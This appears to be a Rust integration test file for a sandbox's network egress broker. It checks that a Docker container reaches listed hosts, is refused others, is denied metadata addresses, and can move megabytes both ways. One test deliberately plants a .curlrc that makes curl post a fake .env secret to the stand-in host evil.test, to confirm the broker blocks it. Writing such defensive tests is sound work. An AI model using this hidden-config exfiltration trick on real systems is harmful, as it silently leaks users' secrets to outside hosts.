//! The way out of an ephemeral container, for real (the test dockerd of
//! `scripts/test.sh`): the container's network is `none`, the helper relays each client
//! of its loopback to this server over the attach stream, and this server's broker
//! decides, resolves and dials — so listed hosts answer, others are refused with host and
//! program, and bytes pass in both directions past the relay's window.

use crate::common::*;
use crate::egress::{policies, server};
use crate::remote_sessions::docker_fixture;
use execkit_runner::docker::DockerTarget;
use execkit_runner::Session;
use std::io::{Read, Write};

/// An ephemeral container under the default set with the egress test hosts mapped to
/// this machine (`meta.test` to the metadata address).
async fn brokered_container() -> Option<Session> {
    let mut s = docker_fixture()?;
    crate::egress::map_test_hosts(&mut s.sandbox.egress);
    let config = Session::builder().engine(policies()).build().unwrap();
    let target = DockerTarget::Image("execkit-test:latest".into());
    Some(Session::docker(&target, &s, config).await.unwrap())
}

/// A loopback server here answering each request with `len` bytes, or — for a request
/// with a body — with the body's length.
fn bytes_server(len: usize) -> u16 {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in l.incoming().take(16) {
            let Ok(mut c) = c else { return };
            let got = read_request(&mut c);
            let body = match got {
                0 => vec![b'x'; len],
                n => n.to_string().into_bytes(),
            };
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = c.write_all(head.as_bytes());
            let _ = c.write_all(&body);
        }
    });
    port
}

/// Reads a request's head and body; the body's length.
fn read_request(c: &mut std::net::TcpStream) -> usize {
    let mut data = Vec::new();
    let mut buf = [0u8; 65536];
    let end = loop {
        match c.read(&mut buf) {
            Ok(0) | Err(_) => return 0,
            Ok(n) => data.extend_from_slice(&buf[..n]),
        }
        if let Some(i) = data.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
    };
    let head = String::from_utf8_lossy(&data[..end]).to_ascii_lowercase();
    let want: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0);
    let mut have = data.len() - end;
    while have < want {
        match c.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => have += n,
        }
    }
    have
}

#[tokio::test]
async fn docker_listed_hosts_are_reached_through_the_servers_broker_and_others_refused() {
    let Some(s) = brokered_container().await else {
        return;
    };
    let e = s.info().await.enforcement;
    assert!(e.private_network && e.egress_broker, "{e:?}");
    assert!(
        !e.notes
            .iter()
            .any(|n| n.contains("no connections from the shell")),
        "{e:?}"
    );
    let port = server("from the registry");
    let r = ok(&s, &format!("curl -sS http://registry.test:{port}/simple/")).await;
    assert_eq!(r.stdout, "from the registry");
    let r = ok(&s, &format!("curl -sS -p http://registry.test:{port}/")).await;
    assert_eq!(r.stdout, "from the registry");
    // A secret carried out by a second URL from a config file the command text does not
    // show: refused at the connection, with host and program.
    ok(&s, "printf 'SECRET_TOKEN=abc\\n' > .env").await;
    ok(
        &s,
        &format!("printf 'url = \"http://evil.test:{port}/\"\\ndata = \"@.env\"\\n' > .curlrc"),
    )
    .await;
    let r = run(
        &s,
        &format!("CURL_HOME=/work curl -sS -f http://registry.test:{port}/"),
    )
    .await;
    assert!(r.stderr.contains("error: 403"), "{r:?}");
    let d = refused_at(&r, &format!("evil.test:{port}"));
    assert!(d.program.ends_with("/curl"), "{d:?}");
    // Allowed by name, refused by the address this server resolved.
    let r = run(&s, &format!("curl -sS -f http://meta.test:{port}/")).await;
    let d = r.runtime_denials.first().unwrap_or_else(|| panic!("{r:?}"));
    assert!(
        d.policies.contains(&"deny-metadata-addresses".to_string()),
        "{d:?}"
    );
    // Around the relay there is no way out.
    crate::egress::no_way_around_the_proxy(&s, port).await;
    s.close().await;
}

#[tokio::test]
async fn docker_relay_carries_megabytes_both_ways() {
    let Some(s) = brokered_container().await else {
        return;
    };
    let size = 5 * 1024 * 1024 + 17;
    let port = bytes_server(size);
    let r = ok(
        &s,
        &format!("curl -sS -o down.bin http://registry.test:{port}/big && wc -c < down.bin"),
    )
    .await;
    assert_eq!(r.stdout.trim(), size.to_string(), "{r:?}");
    let r = ok(
        &s,
        &format!("head -c 3000001 /dev/zero > up.bin && curl -sS --data-binary @up.bin http://registry.test:{port}/up"),
    )
    .await;
    assert_eq!(r.stdout.trim(), "3000001", "{r:?}");
    // Through a tunnel (CONNECT) too.
    let r = ok(
        &s,
        &format!("curl -sS -p -o tunnel.bin http://registry.test:{port}/big && wc -c < tunnel.bin"),
    )
    .await;
    assert_eq!(r.stdout.trim(), size.to_string(), "{r:?}");
    s.close().await;
}
